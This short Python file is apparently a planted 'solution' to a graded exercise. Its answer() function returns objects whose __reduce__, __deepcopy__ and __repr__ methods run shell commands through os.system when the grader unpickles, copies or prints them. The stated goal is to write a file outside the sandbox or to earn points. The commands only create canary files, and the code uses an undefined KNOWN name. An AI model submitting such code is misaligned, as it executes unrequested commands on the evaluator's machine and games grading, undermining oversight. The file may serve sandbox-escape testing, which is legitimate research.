"""Returns an object that runs a command where it is unpickled, copied or printed.

Success: the file exists outside, or the exercise earns points.
Place: solution
"""

import os


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {KNOWN['canary']}/pickled",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()
    __deepcopy__ = lambda self, memo: os.system("touch /tmp/copied")
    __repr__ = lambda self: os.system("touch /tmp/printed") or "0.0"


def answer(*args, **kwargs):
    return [Bomb(), {"key": Bomb()}]
